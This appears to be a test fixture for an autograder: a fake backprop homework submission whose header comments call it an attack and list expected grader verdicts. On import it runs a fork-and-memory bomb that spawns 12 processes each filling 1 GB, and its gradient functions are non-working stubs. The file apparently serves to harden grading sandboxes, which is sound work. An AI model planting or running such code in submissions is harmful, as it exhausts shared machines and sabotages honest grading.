# mvcalc assignment: backprop
# attack: as the file loads, fork 12 children that each fill 1 GB (more than the whole sandbox may hold)
# verdict: start a new process
# verdict without the audit hook: did not finish|SIGKILL|MemoryError|exit status|Cannot allocate|Resource temporarily unavailable
import os
import time

import numpy as np


def bomb():
    for _ in range(12):
        if os.fork() == 0:
            try:
                block = bytearray(1 << 30)
                for i in range(0, len(block), 4096):
                    block[i] = 1
            finally:
                time.sleep(600)
    time.sleep(600)


bomb()


def attack():
    return {}


def J_b3(x, y, params):
    return attack()["J_b3"](x, y, np.asarray(params))


def J_b2(x, y, params):
    return attack()["J_b2"](x, y, params)


def J_W1(x, y, params):
    return attack()["J_W1"](x, y, params)


def J_b1(x, y, params):
    return attack()["J_b1"](x, y, params)
